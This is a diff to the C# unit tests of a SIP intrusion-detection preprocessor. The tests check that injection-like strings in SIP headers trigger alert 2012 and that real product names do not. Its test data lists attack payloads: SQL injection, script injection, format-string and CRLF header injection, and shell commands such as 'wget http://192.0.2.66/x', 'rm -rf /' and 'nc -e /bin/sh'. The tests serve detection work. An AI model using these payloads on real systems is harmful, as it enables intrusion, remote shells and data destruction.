@@ -1,3 +1,5 @@
+using SipIds.Events;
+
 namespace SipIds.Preprocessors.Tests.Mandatory;
 
 public sealed class InjectionTests
@@ -119,6 +121,96 @@ public sealed class InjectionTests
     {
         var user = new string('a', 700) + "%27%20or%201=1--" + new string('b', 300);
         Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With("From", $"From: <sip:{user}@example.com>;tag=1")));
+    }
+
+    public static TheoryData<string> Products =>
+    [
+        "x'); DROP TABLE cdr;--", "<script>alert(1)</script>", "%3Cimg%20src=x%20onerror=alert(1)%3E", "Phone ; wget http://192.0.2.66/x", "Phone && rm -rf /",
+        "Phone `id`", "$(reboot)", "Phone | nc -e /bin/sh", "1 union all select password from users", "%n%n%n%n", "%s%s%s%s", "%08x.%08x.%08x.%08x", "%.9999d",
+        "Phone%0d%0aX-Admin: yes", "Phone%0aX-Admin: yes", "%250d%250aVia: x",
+    ];
+
+    public static TheoryData<string> HonestProducts =>
+    [
+        "Asterisk PBX 18.9-cert4", "FPBX-16.0.40.7(18.20.0)", "Yealink SIP-T46U 108.86.0.45", "PolycomVVX-VVX_411-UA/5.9.7.3480_64167f000000", "snom300/8.7.5.35",
+        "Grandstream GXP1625 1.0.7.13", "Cisco-SIPGateway/IOS-15.4.3.M6a", "Cisco-CP7975G/9.3.1", "Z 3.15.40006 rv2.8.20", "Bria 3 release 3.5.5 stamp 69410",
+        "OpenSIPS (2.4.7 (x86_64/linux))", "kamailio (5.6.3 (x86_64/linux))", "AVM FRITZ!Box 7490 113.06.93 TAL (Dec 22 2017)", "FreeSWITCH-mod_sofia/1.10.9-release+git~20230209T183100Z~45b2b4a7b5~64bit",
+        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0", "Linphone/3.6.1 (eXosip2/4.0.0)", "pysip/1.0 (Linux; python 3.8)", "MyApp; curl/8.5.0", "Tool (linux; perl; cat 5)",
+        "O'Reilly Phone", "Sales & Marketing 'Select' Phone", "SELECT Phone from Acme; union of 50% & more", "Panasonic_KX-HDV230/06.001 (0080f0e3ab12)", "SIP/2.0 100%", "Phone %s", "Phone %s/%d",
+        "Avaya one-X Deskphone \"9641\"", "X-Lite; id=5", "Türklingel/1.0", "%20%41%2f", "Jitsi2.10.5550Linux", "T-Com; OCS; echo cancel",
+    ];
+
+    [Theory]
+    [MemberData(nameof(Products))]
+    public void Code_in_the_name_of_a_product_is_reported_in_requests_and_responses(string product)
+    {
+        var tester = new MandatoryTester();
+        Assert.Contains(2012, Sids(tester, Messages.Invite.With("User-Agent", "User-Agent: " + product)));
+        Assert.Contains(2012, Sids(tester, Messages.Ok.And("Server: " + product)));
+        Assert.Contains(2012, Sids(tester, Messages.Ok.And("Server: Phone\nServer: " + product)));
+        Assert.Contains(2012, Sids(tester, Messages.Invite.And("s: " + product)));
+        Assert.Contains(2012, Sids(tester, Messages.Invite.And($"Reason: SIP;cause=200;text=\"{product}\"")));
+        Assert.Contains(2012, Sids(tester, Messages.Ok.And($"Warning: 399 host \"{product}\"")));
+    }
+
+    [Theory]
+    [MemberData(nameof(HonestProducts))]
+    public void An_honest_product_is_silent(string product)
+    {
+        var tester = new MandatoryTester();
+        Assert.Empty(tester.See(Messages.Invite.With("User-Agent", "User-Agent: " + product)));
+        Assert.Empty(tester.See(Messages.Ok.And("Server: " + product)));
+    }
+
+    [Theory]
+    [InlineData("Subject: Re: it's 50% off; see you & yours | \"urgent\"")]
+    [InlineData("Reason: Q.850;cause=16;text=\"Normal call clearing\"")]
+    [InlineData("Reason: SIP;cause=200;text=\"Call completed elsewhere\", Q.850;cause=26")]
+    [InlineData("Warning: 399 192.0.2.1 \"User's line is busy; try again\"")]
+    [InlineData("Content-Type: multipart/mixed;boundary=\"=_%n%n%n'or'\"")]
+    [InlineData("Refer-To: <sip:bob@example.com?Subject=x&body=one%0D%0Atwo:%20three>")]
+    public void Honest_texts_are_silent(string line) => Assert.Empty(new MandatoryTester().See(Messages.Invite.And(line)));
+
+    [Theory]
+    [InlineData("<script>alert(1)</script>@x")]
+    [InlineData("%s%s%s%s@x")]
+    [InlineData("x%n%x@192.0.2.1")]
+    [InlineData("a%0d%0aX-Admin:yes@x")]
+    [InlineData("1'or'1'='1")]
+    public void Code_in_a_Call_ID_is_reported_and_in_a_response_mildly(string callId)
+    {
+        var tester = new MandatoryTester();
+        Assert.Contains(tester.See(Messages.Invite.With("Call-ID", "Call-ID: " + callId)), report => report is { Sid: 2012, Severity: Severity.High });
+        Assert.Contains(tester.See(Messages.Ok.With("Call-ID", "i: " + callId)), report => report is { Sid: 2012, Severity: Severity.Low });
+    }
+
+    [Theory]
+    [InlineData("{B3F2C7A0-11D2-4C5F-9E8B-0123456789AB}@192.0.2.1")]
+    [InlineData("intmeth.word%ZK-!.*_+'@word`~)(><:\\/\"][?}{")]
+    [InlineData("kd/8+Jx0Q==")]
+    [InlineData("it's-a-call<1>@host")]
+    [InlineData("a%20b%s@host")]
+    public void An_odd_and_legal_Call_ID_raises_no_injection(string callId) =>
+        Assert.DoesNotContain(2012, Sids(new MandatoryTester(), Messages.Invite.With("Call-ID", "Call-ID: " + callId)));
+
+    [Theory]
+    [InlineData("INVITE", "INVITE sip:bob%0d%0aContact:%20x@example.com SIP/2.0")]
+    [InlineData("INVITE", "INVITE sip:bob@example.com;x=%0D%0AVia:%20y SIP/2.0")]
+    [InlineData("From", "From: \"%25s%25s%25n\" <sip:a@example.com>;tag=1")]
+    [InlineData("From", "From: <sip:%25n%25n@example.com>;tag=1")]
+    [InlineData("Contact", "Contact: %s%s%s%s <sip:a@example.com>")]
+    public void Printf_conversions_and_escaped_line_ends_are_reported(string header, string line) =>
+        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With(header, line)));
+
+    [Fact]
+    public void A_format_in_the_type_of_a_body_is_reported() =>
+        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.And("Content-Type: application/%s%s%s%s")));
+
+    [Fact]
+    public void More_that_may_be_code_than_any_name_has_is_reported()
+    {
+        var names = string.Join(", ", Enumerable.Repeat($"\"{new string('\'', 400)}\" <sip:a@192.0.2.1>", 7));
+        Assert.Contains(2012, Sids(new MandatoryTester(), Messages.Invite.With("Contact", "Contact: " + names)));
     }
 
     [Fact]
